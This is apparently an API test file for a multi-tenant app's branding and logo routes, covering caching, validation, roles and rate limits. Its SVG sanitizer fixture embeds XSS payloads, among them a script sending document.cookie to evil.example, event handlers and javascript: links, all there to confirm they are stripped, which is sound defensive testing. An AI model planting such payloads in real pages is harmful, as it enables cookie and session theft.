import { createHash } from 'node:crypto';
import { readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { expect } from 'chai';
import { ROLES, type Role } from '@wfm/core/tenancy';
import { createTenant } from '@wfm/testing/factories';
import { publicApiSuite } from '../../../test-support/api-suite.js';
import { describeImage, jpegWithExif, pngImage, sendForm } from '../../../test-support/image-uploads.js';
import type { HttpResult } from '../../../test-support/harness.js';

const sha256 = (b: Buffer) => createHash('sha256').update(b).digest('hex');
const badRequest = (...message: string[]) => ({ message, error: 'Bad Request', statusCode: 400 });
const TENANT_NOT_FOUND = { message: 'Tenant not found', error: 'Not Found', statusCode: 404 };
const NO_LOGO = { message: 'This tenant has no logo', error: 'Not Found', statusCode: 404 };
const THROTTLED = { statusCode: 429, message: 'ThrottlerException: Too Many Requests' };

const SCRIPTED_SVG = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 40" onload="alert('load')">
  <style>.brand { fill: #E63946 } </style>
  <style>@import url(https://evil.example/steal.css); .x { fill: red }</style>
  <script type="text/javascript">fetch('https://evil.example/?c=' + document.cookie)</script>
  <defs><linearGradient id="g"><stop offset="0" stop-color="#FFFFFF"/></linearGradient></defs>
  <rect id="box" class="brand" width="100" height="40" onclick="alert('click')" fill="url(#g)"/>
  <use href="#box"/>
  <use xlink:href="https://evil.example/sprite.svg#icon"/>
  <image href="https://evil.example/tracker.png" width="1" height="1"/>
  <circle r="5" style="fill: url(https://evil.example/paint)"/>
  <a href="javascript:alert('link')"><text x="5" y="20">Acme &amp; Co</text></a>
  <foreignObject width="100" height="40"><div xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.example/"></iframe></div></foreignObject>
  <animate attributeName="href" to="javascript:alert('animate')"/>
</svg>`;

describe('branding: colours and logo, public and admin routes (HTTP)', () => {
  const s = publicApiSuite(171);
  const from = () => ({ 'x-forwarded-for': s.ip });
  const admin = () => s.tokenAs('COMPANY_ADMIN');
  const slugOf = async (tenantId: string) => ((await s.h.ds.query(`SELECT slug FROM tenants WHERE id = $1`, [tenantId])) as Array<{ slug: string }>)[0]!.slug;
  const nameOf = async (tenantId: string) => ((await s.h.ds.query(`SELECT name FROM tenants WHERE id = $1`, [tenantId])) as Array<{ name: string }>)[0]!.name;
  const logoUrl = (tenantId: string) => `${s.h.config.publicAppUrl}/api/v1/branding/logo/${tenantId}`;
  const putLogo = (token: string, data: Buffer, filename = 'logo.png') => sendForm(s.h, 'PUT', '/branding/logo', { field: 'logo', data, filename, token });
  const getLogo = (tenantId: string, headers: Record<string, string> = {}) => s.h.request('GET', `/branding/logo/${tenantId}`, { binary: true, headers: { ...from(), ...headers } });
  const storedFiles = async (tenantId: string) => readdir(join(s.h.filesDir, tenantId, 'branding')).catch(() => [] as string[]);

  describe('GET /branding/public', () => {
    it("answers a tenant that never set any branding with its name, slug and nulls, cacheable by ETag", async () => {
      const res = await s.h.request('GET', `/branding/public?tenant=${await slugOf(s.tenantA)}`, { headers: from() });
      expect(res.status).to.equal(200);
      expect(res.body).to.deep.equal({ name: await nameOf(s.tenantA), slug: await slugOf(s.tenantA), primaryColor: null, accentColor: null, logoUrl: null });
      expect(res.headers.get('cache-control')).to.equal('public, max-age=60');
      expect(res.headers.get('etag')).to.equal(`"${sha256(Buffer.from(JSON.stringify(res.body)))}"`);
    });

    it('shows the colours and the absolute logo address once an admin has set them; the slug may be typed in capitals', async () => {
      const token = await admin();
      await s.h.request('PATCH', '/branding', { token, body: { primaryColor: '#1a73e8', accentColor: '#FFB703' } });
      expect((await putLogo(token, await pngImage())).status).to.equal(200);
      const slug = await slugOf(s.tenantA);
      const res = await s.h.request('GET', `/branding/public?tenant=${slug.toUpperCase()}`, { headers: from() });
      expect(res.body).to.deep.equal({ name: await nameOf(s.tenantA), slug, primaryColor: '#1A73E8', accentColor: '#FFB703', logoUrl: logoUrl(s.tenantA) });
    });

    it('answers 304 without a body to a current If-None-Match, and 200 with a new ETag once the branding changed', async () => {
      const path = `/branding/public?tenant=${await slugOf(s.tenantA)}`;
      const first = await s.h.request('GET', path, { headers: from() });
      const etag = first.headers.get('etag')!;
      const again = await s.h.request('GET', path, { headers: { ...from(), 'if-none-match': etag } });
      expect(again.status).to.equal(304);
      expect(again.body).to.equal(undefined);
      expect(again.headers.get('etag')).to.equal(etag);
      expect(again.headers.get('cache-control')).to.equal('public, max-age=60');
      await s.h.request('PATCH', '/branding', { token: await admin(), body: { primaryColor: '#000000' } });
      const changed = await s.h.request('GET', path, { headers: { ...from(), 'if-none-match': etag } });
      expect(changed.status).to.equal(200);
      expect(changed.body.primaryColor).to.equal('#000000');
      expect(changed.headers.get('etag')).to.not.equal(etag);
    });

    it('is 404 for a slug no tenant has', async () => {
      const res = await s.h.request('GET', '/branding/public?tenant=no-such-tenant-anywhere', { headers: from() });
      expect(res.status).to.equal(404);
      expect(res.body).to.deep.equal(TENANT_NOT_FOUND);
    });

    const invalid: Array<[string, string, string[]]> = [
      ['no tenant', '', ['tenant is required']],
      ['a slug with an underscore', '?tenant=acme_kitchens', ['tenant must be a tenant slug: 1 to 63 letters, digits or hyphens']],
      ['a slug starting with a hyphen', '?tenant=-acme', ['tenant must be a tenant slug: 1 to 63 letters, digits or hyphens']],
      ['a slug of 64 characters', `?tenant=${'a'.repeat(64)}`, ['tenant must be a tenant slug: 1 to 63 letters, digits or hyphens']],
      ['an undeclared parameter', '?tenant=acme&page=2', ["property page should not exist"]],
    ];
    for (const [what, query, messages] of invalid) {
      it(`is 400 for ${what}`, async () => {
        const res = await s.h.request('GET', `/branding/public${query}`, { headers: from() });
        expect(res.status).to.equal(400);
        expect(res.body).to.deep.equal(badRequest(...messages));
      });
    }
  });

  describe('GET /branding/logo/:tenantId', () => {
    it('serves the stored image with its type, an ETag of its SHA-256, caching and isolation headers', async () => {
      await putLogo(await admin(), await pngImage(300, 100));
      const res = await getLogo(s.tenantA);
      expect(res.status).to.equal(200);
      expect(res.headers.get('content-type')).to.equal('image/png');
      expect(res.headers.get('etag')).to.equal(`"${sha256(res.body)}"`);
      expect(res.headers.get('cache-control')).to.equal('public, max-age=300');
      expect(res.headers.get('cross-origin-resource-policy')).to.equal('cross-origin');
      expect(res.headers.get('x-content-type-options')).to.equal('nosniff');
      expect(res.headers.get('content-security-policy')).to.equal("default-src 'none'; img-src data:; style-src 'unsafe-inline'; sandbox");
      expect(await describeImage(res.body)).to.deep.equal({ format: 'png', width: 300, height: 100, exif: false });
    });

    it('answers 304 to its ETag (strong, weak or in a list) and 200 to another', async () => {
      await putLogo(await admin(), await pngImage());
      const etag = (await getLogo(s.tenantA)).headers.get('etag')!;
      for (const match of [etag, `W/${etag}`, `"other", ${etag}`, '*']) {
        const res = await getLogo(s.tenantA, { 'if-none-match': match });
        expect(res.status, match).to.equal(304);
        expect(res.body.length).to.equal(0);
        expect(res.headers.get('etag')).to.equal(etag);
      }
      const other = await getLogo(s.tenantA, { 'if-none-match': '"not-the-logo"' });
      expect(other.status).to.equal(200);
      expect(other.body.length).to.be.greaterThan(0);
    });

    it('is 404 for a tenant without a logo and for an unknown tenant, 400 for an id that is not a UUID', async () => {
      const none = await s.h.request('GET', `/branding/logo/${s.tenantB}`, { headers: from() });
      expect([none.status, none.body]).to.deep.equal([404, NO_LOGO]);
      const unknown = await s.h.request('GET', '/branding/logo/00000000-0000-4000-8000-000000000000', { headers: from() });
      expect([unknown.status, unknown.body]).to.deep.equal([404, TENANT_NOT_FOUND]);
      const bad = await s.h.request('GET', '/branding/logo/acme', { headers: from() });
      expect([bad.status, bad.body]).to.deep.equal([400, badRequest('tenantId must be a UUID')]);
    });

    it("keeps tenants apart: one tenant's upload changes only its own logo and branding", async () => {
      await putLogo(await admin(), await pngImage(10, 10, '#FF0000'));
      const tokenB = await s.tokenAs('TENANT_OWNER', s.tenantB);
      await putLogo(tokenB, await pngImage(20, 20, '#00FF00'));
      await s.h.request('PATCH', '/branding', { token: tokenB, body: { primaryColor: '#00FF00' } });
      expect((await describeImage((await getLogo(s.tenantA)).body)).width).to.equal(10);
      expect((await describeImage((await getLogo(s.tenantB)).body)).width).to.equal(20);
      const a = await s.h.request('GET', '/branding', { token: await admin() });
      expect(a.body.primaryColor).to.equal(null);
      expect(a.body.logoUrl).to.equal(logoUrl(s.tenantA));
      expect((await storedFiles(s.tenantA)).length).to.equal(1);
      expect((await storedFiles(s.tenantB)).length).to.equal(1);
    });
  });

  describe('GET and PATCH /branding', () => {
    it("answers the caller's tenant branding with the stored logo's details", async () => {
      const token = await admin();
      const empty = await s.h.request('GET', '/branding', { token });
      expect(empty.status).to.equal(200);
      expect(empty.body).to.deep.equal({ name: await nameOf(s.tenantA), slug: await slugOf(s.tenantA), primaryColor: null, accentColor: null, logoUrl: null, logo: null, updatedAt: null });
      const uploaded = await putLogo(token, await pngImage());
      const res = await s.h.request('GET', '/branding', { token });
      expect(res.body).to.deep.equal(uploaded.body);
      expect(res.body.logo).to.deep.equal({ mediaType: 'image/png', bytes: res.body.logo.bytes, uploadedAt: s.h.clock.now().toISOString() });
      expect(res.body.updatedAt).to.equal(s.h.clock.now().toISOString());
      const [row] = await s.h.ds.query(`SELECT logo_bytes, logo_sha256 FROM tenant_branding WHERE tenant_id = $1`, [s.tenantA]);
      const served = (await getLogo(s.tenantA)).body;
      expect(row).to.deep.equal({ logo_bytes: served.length, logo_sha256: sha256(served) });
    });

    it('sets colours (stored upper case), changes one without the other, and clears one with null', async () => {
      const token = await admin();
      const set = await s.h.request('PATCH', '/branding', { token, body: { primaryColor: '#abcdef', accentColor: '#123456' } });
      expect(set.status).to.equal(200);
      expect(set.body).to.deep.include({ primaryColor: '#ABCDEF', accentColor: '#123456', logo: null, updatedAt: s.h.clock.now().toISOString() });
      s.h.clock.advance(1000);
      const one = await s.h.request('PATCH', '/branding', { token, body: { accentColor: null } });
      expect(one.body).to.deep.include({ primaryColor: '#ABCDEF', accentColor: null, updatedAt: s.h.clock.now().toISOString() });
    });

    const invalid: Array<[string, unknown, string[]]> = [
      ['a colour without #', { primaryColor: '1A73E8' }, ['primaryColor must be a colour in the form #RRGGBB']],
      ['a short colour', { primaryColor: '#FFF' }, ['primaryColor must be a colour in the form #RRGGBB']],
      ['a colour name', { accentColor: 'red' }, ['accentColor must be a colour in the form #RRGGBB']],
      ['a colour with alpha', { accentColor: '#1A73E8FF' }, ['accentColor must be a colour in the form #RRGGBB']],
      ['a number', { primaryColor: 0x1a73e8 }, ['primaryColor must be a string']],
      ['an empty body', {}, ['body must contain at least one of: primaryColor, accentColor']],
      ['an unknown property', { primaryColor: '#000000', logoUrl: 'https://x.example/logo.png' }, ['property logoUrl should not exist']],
    ];
    for (const [what, body, messages] of invalid) {
      it(`is 400 for ${what}, and changes nothing`, async () => {
        const res = await s.h.request('PATCH', '/branding', { token: await admin(), body });
        expect(res.status).to.equal(400);
        expect(res.body).to.deep.equal(badRequest(...messages));
        expect(await s.h.ds.query(`SELECT 1 FROM tenant_branding WHERE tenant_id = $1`, [s.tenantA])).to.deep.equal([]);
      });
    }
  });

  describe('PUT /branding/logo', () => {
    it('replaces a logo, deleting the old file once the new one is in place', async () => {
      const token = await admin();
      await putLogo(token, await pngImage(10, 10));
      const [first] = await storedFiles(s.tenantA);
      const res = await putLogo(token, await pngImage(30, 10));
      expect(res.status).to.equal(200);
      const files = await storedFiles(s.tenantA);
      expect(files).to.have.length(1);
      expect(files[0]).to.not.equal(first);
      expect((await describeImage((await getLogo(s.tenantA)).body)).width).to.equal(30);
    });

    it('takes a JPEG upright and without its EXIF (camera, copyright, orientation)', async () => {
      const res = await putLogo(await admin(), await jpegWithExif(60, 40), 'logo.jpg');
      expect(res.status).to.equal(200);
      expect(res.body.logo.mediaType).to.equal('image/jpeg');
      const served = (await getLogo(s.tenantA)).body;
      expect(await describeImage(served)).to.deep.equal({ format: 'jpeg', width: 40, height: 60, exif: false });
      expect(served.includes('home-at-51.5074N')).to.equal(false);
    });

    it('scales a large bitmap down to 1024 pixels on its longer side', async () => {
      await putLogo(await admin(), await pngImage(2048, 512));
      expect(await describeImage((await getLogo(s.tenantA)).body)).to.deep.include({ width: 1024, height: 256 });
    });

    it('sanitizes an SVG: no script, event handler, outside reference or foreign object survives, and the drawing does', async () => {
      const res = await putLogo(await admin(), Buffer.from(SCRIPTED_SVG), 'logo.svg');
      expect(res.status).to.equal(200);
      expect(res.body.logo.mediaType).to.equal('image/svg+xml');
      const served = await getLogo(s.tenantA);
      expect(served.headers.get('content-type')).to.equal('image/svg+xml');
      expect(served.headers.get('content-security-policy')).to.equal("default-src 'none'; img-src data:; style-src 'unsafe-inline'; sandbox");
      const svg = served.body.toString('utf8');
      for (const gone of ['<script', 'onload', 'onclick', 'javascript:', 'foreignObject', 'iframe', 'evil.example', '@import', '<animate', 'DOCTYPE']) {
        expect(svg, gone).to.not.contain(gone);
      }
      for (const kept of ['<rect', 'id="box"', 'class="brand"', 'fill="url(#g)"', '<use href="#box"', '.brand { fill: #E63946 }', 'Acme &amp; Co', 'viewBox="0 0 100 40"']) {
        expect(svg, kept).to.contain(kept);
      }
      expect(svg).to.match(/^<\?xml version="1\.0" encoding="UTF-8"\?>\n<svg xmlns="http:\/\/www\.w3\.org\/2000\/svg"/);
      expect(served.headers.get('etag')).to.equal(`"${sha256(served.body)}"`);
    });

    it('is 401 without a token and 403 for every role but tenant owners and company admins', async () => {
      const png = await pngImage();
      expect((await sendForm(s.h, 'PUT', '/branding/logo', { field: 'logo', data: png })).body).to.deep.equal({ message: 'Unauthorized', statusCode: 401 });
      for (const role of ROLES.filter((r) => !['TENANT_GROUP_OWNER', 'TENANT_OWNER', 'COMPANY_ADMIN'].includes(r))) {
        const res = await putLogo(await s.tokenAs(role), png);
        expect([res.status, res.body], role).to.deep.equal([403, { message: 'Forbidden resource', error: 'Forbidden', statusCode: 403 }]);
      }
      expect(await storedFiles(s.tenantA)).to.deep.equal([]);
    });

    const refused: Array<[string, () => Promise<Buffer>, string, number, unknown]> = [
      ['a PDF named logo.png', async () => Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n'), 'logo.png', 415, { message: 'logo must be a PNG, JPEG or SVG image (judged by its content)', error: 'Unsupported Media Type', statusCode: 415 }],
      ['a GIF', async () => Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1'), 'logo.gif', 415, { message: 'logo must be a PNG, JPEG or SVG image (judged by its content)', error: 'Unsupported Media Type', statusCode: 415 }],
      ['HTML posing as SVG', async () => Buffer.from('<html><body><svg></svg><script>alert(1)</script></body></html>'), 'logo.svg', 415, { message: 'logo must be a PNG, JPEG or SVG image (judged by its content)', error: 'Unsupported Media Type', statusCode: 415 }],
      ['a PNG signature followed by garbage', async () => Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(200, 7)]), 'logo.png', 422, { message: 'logo could not be read as a PNG image', error: 'Unprocessable Entity', statusCode: 422 }],
      ['an SVG cut off inside its first tag', async () => Buffer.from('<svg '), 'logo.svg', 422, { message: 'logo could not be read as an SVG drawing', error: 'Unprocessable Entity', statusCode: 422 }],
      ['a file of 1 MB and one byte', async () => Buffer.concat([await pngImage(), Buffer.alloc(1024 * 1024 + 1 - (await pngImage()).length)]), 'logo.png', 413, { message: 'Request body is too large', error: 'Payload Too Large', statusCode: 413 }],
    ];
    for (const [what, make, filename, status, body] of refused) {
      it(`is ${status} for ${what}, and stores nothing`, async () => {
        const res = await putLogo(await admin(), await make(), filename);
        expect(res.status).to.equal(status);
        expect(res.body).to.deep.equal(body);
        expect(await storedFiles(s.tenantA)).to.deep.equal([]);
        expect((await getLogo(s.tenantA)).status).to.equal(404);
      });
    }

    it('accepts a file of exactly 1 MB', async () => {
      const png = await pngImage();
      const res = await putLogo(await admin(), Buffer.concat([png, Buffer.alloc(1024 * 1024 - png.length)]));
      expect(res.status).to.equal(200);
    });

    it('is 400 without a file, or with a form field the route does not take; 415 for a JSON body', async () => {
      const token = await admin();
      expect((await sendForm(s.h, 'PUT', '/branding/logo', { token, fields: { note: 'x' } })).body).to.deep.equal(badRequest('logo is required: a file in multipart/form-data'));
      expect((await sendForm(s.h, 'PUT', '/branding/logo', { token, field: 'logo', data: await pngImage(), fields: { colour: 'red' } })).body).to.deep.equal(badRequest('property colour should not exist'));
      const json = await s.h.request('PUT', '/branding/logo', { token, body: { logo: 'aGVsbG8=' } });
      expect([json.status, json.body]).to.deep.equal([415, { message: 'Send the file as multipart/form-data in the field logo', error: 'Unsupported Media Type', statusCode: 415 }]);
      expect(await storedFiles(s.tenantA)).to.deep.equal([]);
    });
  });

  describe('DELETE /branding/logo', () => {
    it('removes the logo and its file: the logo route is 404 and logoUrl null; a second delete is 404', async () => {
      const token = await admin();
      await putLogo(token, await pngImage());
      const res = await s.h.request('DELETE', '/branding/logo', { token });
      expect(res.status).to.equal(204);
      expect(await storedFiles(s.tenantA)).to.deep.equal([]);
      expect((await s.h.request('GET', `/branding/logo/${s.tenantA}`, { headers: from() })).body).to.deep.equal(NO_LOGO);
      expect((await s.h.request('GET', `/branding/public?tenant=${await slugOf(s.tenantA)}`, { headers: from() })).body.logoUrl).to.equal(null);
      expect((await s.h.request('GET', '/branding', { token })).body.logo).to.equal(null);
      const again = await s.h.request('DELETE', '/branding/logo', { token });
      expect([again.status, again.body]).to.deep.equal([404, NO_LOGO]);
    });

    it("cannot reach another tenant's logo", async () => {
      await putLogo(await admin(), await pngImage());
      const res = await s.h.request('DELETE', '/branding/logo', { token: await s.tokenAs('TENANT_OWNER', s.tenantB) });
      expect([res.status, res.body]).to.deep.equal([404, NO_LOGO]);
      expect((await getLogo(s.tenantA)).status).to.equal(200);
    });
  });

  describe('roles of the admin routes', () => {
    const routes: Array<[string, string, unknown?]> = [
      ['GET', '/branding'],
      ['PATCH', '/branding', { primaryColor: '#000000' }],
      ['DELETE', '/branding/logo'],
    ];
    for (const [method, path, body] of routes) {
      it(`${method} ${path}: 401 without a token, 403 for the other roles, allowed for TENANT_OWNER and COMPANY_ADMIN`, async () => {
        expect((await s.h.request(method, path, { body })).body).to.deep.equal({ message: 'Unauthorized', statusCode: 401 });
        for (const role of ROLES) {
          const res = await s.h.request(method, path, { token: await s.tokenAs(role as Role), body });
          const allowed = ['TENANT_GROUP_OWNER', 'TENANT_OWNER', 'COMPANY_ADMIN'].includes(role);
          if (allowed) expect(res.status, role).to.be.oneOf([200, 404]);
          else expect([res.status, res.body], role).to.deep.equal([403, { message: 'Forbidden resource', error: 'Forbidden', statusCode: 403 }]);
        }
      });
    }
  });

  it('fires no domain event', async () => {
    const token = await admin();
    await s.h.request('PATCH', '/branding', { token, body: { primaryColor: '#000000' } });
    await putLogo(token, await pngImage());
    await s.h.request('DELETE', '/branding/logo', { token });
    expect(await s.h.ds.query(`SELECT type FROM domain_events WHERE tenant_id = $1`, [s.tenantA])).to.deep.equal([]);
  });

  describe('rate limits (spec 01: public routes per source address; the default 120 per 60 s)', () => {
    async function exhaust(call: (headers: Record<string, string>) => Promise<HttpResult>): Promise<void> {
      const headers = from();
      for (let i = 1; i <= 120; i++) {
        const res = await call(headers);
        expect(res.status, `call ${i}`).to.not.equal(429);
        expect(res.headers.get('x-ratelimit-limit')).to.equal('120');
      }
      const throttled = await call(headers);
      expect([throttled.status, throttled.body]).to.deep.equal([429, THROTTLED]);
      expect(Number(throttled.headers.get('retry-after'))).to.be.within(1, 60);
      expect((await call({ 'x-forwarded-for': `${s.ip}0` })).status).to.not.equal(429);
    }

    it('GET /branding/public', async () => {
      const slug = await slugOf(s.tenantA);
      await exhaust((headers) => s.h.request('GET', `/branding/public?tenant=${slug}`, { headers }));
    });

    it('GET /branding/logo/:tenantId, 304s included', async () => {
      await putLogo(await admin(), await pngImage());
      const [{ sha }] = await s.h.ds.query(`SELECT logo_sha256 AS sha FROM tenant_branding WHERE tenant_id = $1`, [s.tenantA]);
      const etag = `"${sha}"`;
      await exhaust((headers) => s.h.request('GET', `/branding/logo/${s.tenantA}`, { headers: { ...headers, 'if-none-match': etag } }));
    });
  });

  it('a new tenant starts unbranded', async () => {
    const t = await createTenant(s.h.ds);
    expect((await s.h.request('GET', `/branding/public?tenant=${t.slug}`, { headers: from() })).body).to.deep.equal({ name: t.name, slug: t.slug, primaryColor: null, accentColor: null, logoUrl: null });
  });
});
